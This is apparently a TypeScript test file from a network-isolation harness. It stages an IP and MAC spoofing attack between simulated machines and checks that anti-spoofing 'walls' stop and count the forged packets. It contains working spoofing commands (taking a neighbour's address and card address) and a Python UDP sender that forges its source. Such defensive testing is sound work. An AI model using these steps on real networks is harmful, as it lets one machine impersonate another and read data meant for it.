// Drill: a machine uses its neighbour's address, and then its card's as well, where services trust an address.
import { type Attempt, type Drill, ProvesNothingError } from '../drill.ts';
import { ALICE, BOB, type Guest } from '../network/guest.ts';
import { openBridge, openWalls, PORTS, type Neighbourhood } from '../network/neighbourhood.ts';
import { FETCH, LISTEN, program, SERVE } from '../network/programs.ts';
import { newCanary } from '../victim.ts';

const SECONDS = 0.8;

/** Says something under another's address: `{messages: [[from, to, port, text]…], seconds}`. */
const TALK_AS = program(`
def voice(sender):
    own = socket.socket(family(sender), socket.SOCK_DGRAM)
    own.bind((sender, 0))
    return own
voices, end = [voice(sender) for sender, _, _, _ in ARG['messages']], time.monotonic() + ARG['seconds']
ready()
while time.monotonic() < end:
    for own, (_, to, port, text) in zip(voices, ARG['messages']):
        try: own.sendto(text.encode(), (to, port))
        except OSError: pass
    time.sleep(0.02)
answer(True)
`);

export const ipSpoof: Drill = {
  name: 'ip-spoof',
  title: 'A machine pretends to be its neighbour',
  adversaries: ['A1'],
  story:
    'Databases, log servers and file shares know their clients by address. The attacker gives her own machine the address of a client: what she sends is taken for that one’s. With the address of its card as well she gets the answers, too, and reads what was for the client alone.',
  needsVictim: 'no',
  mustBeTrue: 'The attacker has root in a machine of her own on the same host and network; a service trusts addresses.',
  stoppedBy:
    'What comes from a cable must have the address and the card of the machine on that cable. All else is dropped before anything else looks at it, and counted.',

  async without({ directory, step }) {
    await using here = await openBridge(directory);
    step('one machine on the bridge takes the address of another');
    return await pretend(here);
  },

  async with({ directory, step }) {
    await using here = await openWalls(directory);
    step('the same behind walls');
    const attempts = await pretend(here);
    if ((await here.counted('spoofed')) === 0) throw new Error('no forged packet was counted');
    return attempts;
  },
};

async function pretend({ alice, bob, mallory }: Neighbourhood): Promise<Attempt[]> {
  const secret = newCanary();
  const service = await bob.start(SERVE, { port: PORTS.serve, text: secret, to: ALICE.ipv4 });
  if (!(await fetches(alice, secret))) throw new ProvesNothingError('the honest machines cannot talk');

  const [letter, letter6] = [newCanary(), newCanary()];
  await mallory.ip(`address add ${ALICE.ipv4}/32 dev eth0`, `address add ${ALICE.ipv6}/128 dev eth0 nodad`);
  const listening = await bob.start(LISTEN, { port: PORTS.talk, seconds: SECONDS });
  const messages = [
    [ALICE.ipv4, BOB.ipv4, PORTS.talk, letter],
    [ALICE.ipv6, BOB.ipv6, PORTS.talk, letter6],
  ];
  await mallory.run(TALK_AS, { messages, seconds: SECONDS / 2 });
  const got = JSON.stringify(await listening.answer);

  // Her own neighbours are to be asked for again: they know the card by its old address.
  await mallory.ip(`link set eth0 address ${ALICE.mac}`, 'neighbour flush dev eth0');
  const whole = await fetches(mallory, secret);
  await service.stop();
  return [
    said('be taken for the neighbour, over IPv4', got.includes(letter)),
    said('be taken for the neighbour, over IPv6', got.includes(letter6)),
    {
      what: 'read what a service gives to the neighbour alone',
      succeeded: whole,
      seen: whole ? 'the canary, as the neighbour' : 'no answer',
    },
  ];
}

async function fetches(who: Guest, secret: string): Promise<boolean> {
  const targets = [[BOB.ipv4, PORTS.serve]];
  const got = await who.run(FETCH, { targets, from: ALICE.ipv4, seconds: SECONDS });
  return Array.isArray(got) && got[0] === secret;
}

function said(what: string, succeeded: boolean): Attempt {
  return { what, succeeded, seen: succeeded ? 'it arrived under the neighbour’s address' : 'it did not arrive' };
}
